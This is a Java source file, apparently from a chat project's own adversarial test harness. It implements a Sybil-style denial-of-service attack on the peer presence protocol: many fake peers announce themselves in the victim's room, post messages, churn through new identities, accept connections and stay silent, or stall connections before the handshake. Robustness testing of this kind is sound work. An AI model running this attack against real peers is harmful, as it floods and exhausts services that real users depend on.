package io.landline.attack;

import io.landline.frame.FrameType;
import io.landline.identity.Identity;
import io.landline.peer.PeerName;
import io.landline.peer.RoomListing;
import io.landline.presence.packet.AnnouncedState;
import io.landline.presence.packet.PacketCodec;
import io.landline.presence.packet.PacketKind;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.Semaphore;
import java.util.concurrent.ThreadLocalRandom;

/// Many people who announce themselves in the victim's own room, each second under another name. They take turns in
/// four ways to do harm: to come in, say something each second and stay; to be dialled and never go on; to come in, say
/// something, say good-bye and come again as somebody else; to dial and stop before anything is proven.
record AnnouncedPeople(int people) implements Attack {
    private static final int WAYS = 4;
    private static final int DIALLING_MAX = 8;
    private static final int ACCEPTED_MAX = 16;
    private static final Duration EVERY = Duration.ofSeconds(1);
    /// Nobody who says this is silent before the next packet.
    private static final Duration NEXT = Duration.ofSeconds(3);
    private static final Duration AGAIN = Duration.ofSeconds(2);
    private static final Duration FOR_EVER = Duration.ofDays(1);
    private static final Duration GATHER = Duration.ofSeconds(5);

    /// One of them: an identity at an address, with what it says of itself.
    ///
    /// @param tcpPort where the person is dialled
    private record Person(Target target, Identity identity, int number, DatagramSocket udp, int tcpPort, long run) {
        void announce(long seq) throws IOException {
            var name = new PeerName("Guest " + number + ", " + seq);
            var listing = new RoomListing(target.room().name(), target.room().open());
            send(PacketCodec.announcement(PacketKind.ANNOUNCE, identity, run, seq,
                    AnnouncedState.own(name, tcpPort, List.of(listing), Set.of()), NEXT));
        }

        void leave(long seq) throws IOException {
            send(PacketCodec.leave(identity, run, seq));
        }

        private void send(byte[] packet) throws IOException {
            udp.send(new DatagramPacket(packet, packet.length, target.presence()));
            Sent.frame(packet.length);
        }
    }

    @Override
    public void run(Target target, Runnable begun) throws InterruptedException {
        var dialling = new Semaphore(DIALLING_MAX);
        for (int i = 0; i < people; i++) {
            int number = i;
            Thread.ofVirtual().start(() -> live(target, number, dialling));
        }
        Thread.sleep(GATHER);
        begun.run();
        Thread.sleep(FOR_EVER);
    }

    private static void live(Target target, int number, Semaphore dialling) {
        InetAddress source = target.source(number);
        try (var udp = new DatagramSocket(new InetSocketAddress(source, 0));
                var server = new ServerSocket(0, ACCEPTED_MAX, source)) {
            udp.setBroadcast(true);
            int way = number % WAYS;
            if (way == 1) Thread.ofVirtual().start(() -> acceptAndKeepQuiet(server));
            while (true) {
                var person = new Person(target, Identity.generate(), number, udp,
                        way == 1 ? server.getLocalPort() : PacketCodec.NO_TCP_PORT, System.currentTimeMillis());
                try {
                    act(way, person, dialling);
                } catch (IOException e) {
                    // thrown out: comes again as somebody else
                }
                Thread.sleep(AGAIN);
            }
        } catch (IOException | InterruptedException e) {
            // the attack is over, or this address is not ours
        }
    }

    private static void act(int way, Person person, Semaphore dialling) throws IOException, InterruptedException {
        person.announce(1);
        switch (way) {
            case 0 -> {
                try (HostileSession session = join(person, dialling)) {
                    HostileLog log = log(person);
                    for (long seq = 2; session.isOpen(); seq++) {
                        say(person, session, log);
                        person.announce(seq);
                        Thread.sleep(EVERY);
                    }
                }
            }
            case 1 -> {
                for (long seq = 2;; seq++) {
                    Thread.sleep(EVERY);
                    person.announce(seq);
                }
            }
            case 2 -> {
                try (HostileSession session = join(person, dialling)) {
                    say(person, session, log(person));
                    Thread.sleep(EVERY);
                    person.leave(2);
                }
            }
            default -> {
                try (var raw = new Socket()) {
                    raw.bind(new InetSocketAddress(person.target.source(person.number), 0));
                    raw.connect(new InetSocketAddress(person.target.address(), person.target.port()));
                    raw.getInputStream().read(); // nothing comes before our first byte: until it is closed
                }
                person.announce(2);
            }
        }
    }

    private static HostileSession join(Person person, Semaphore dialling) throws IOException, InterruptedException {
        dialling.acquire();
        try {
            return HostileSession.join(person.target, person.identity, person.number);
        } catch (IOException e) {
            Sent.refused();
            throw e;
        } finally {
            dialling.release();
        }
    }

    private static HostileLog log(Person person) {
        return new HostileLog(person.identity, person.target.conversation(), ThreadLocalRandom.current().nextLong());
    }

    private static void say(Person person, HostileSession session, HostileLog log) throws IOException {
        byte[] entry = log.next(HostileLog.TEXT, HostileLog.text(20));
        session.send(FrameType.ENTRIES, HostileLog.frame(person.target.conversation(), List.of(entry)));
    }

    /// Takes what dials, and neither reads nor writes.
    private static void acceptAndKeepQuiet(ServerSocket server) {
        var kept = new ArrayList<Socket>();
        try {
            while (true) {
                kept.add(server.accept());
                if (kept.size() > ACCEPTED_MAX) kept.removeFirst().close();
            }
        } catch (IOException e) {
            // the attack is over
        }
    }
}
